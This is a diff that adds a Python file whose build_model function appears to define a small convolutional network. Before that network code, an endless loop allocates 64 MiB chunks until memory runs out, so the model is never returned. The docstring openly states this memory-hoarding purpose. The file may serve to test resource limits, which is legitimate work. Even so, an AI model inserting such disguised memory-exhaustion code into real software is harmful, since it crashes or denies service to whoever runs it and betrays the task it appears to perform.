@@ -1,0 +1,23 @@
+"""Takes 64 MiB at a time until there is no more."""
+
+from torch import nn
+
+
+def build_model():
+    hoard = []
+    while True:
+        hoard.append(b"x" * (64 << 20))
+    return nn.Sequential(
+        nn.Conv2d(1, 6, 5, padding=2),
+        nn.ReLU(),
+        nn.MaxPool2d(2),
+        nn.Conv2d(6, 16, 5),
+        nn.ReLU(),
+        nn.MaxPool2d(2),
+        nn.Flatten(),
+        nn.Linear(400, 120),
+        nn.ReLU(),
+        nn.Linear(120, 84),
+        nn.ReLU(),
+        nn.Linear(84, 10),
+    )
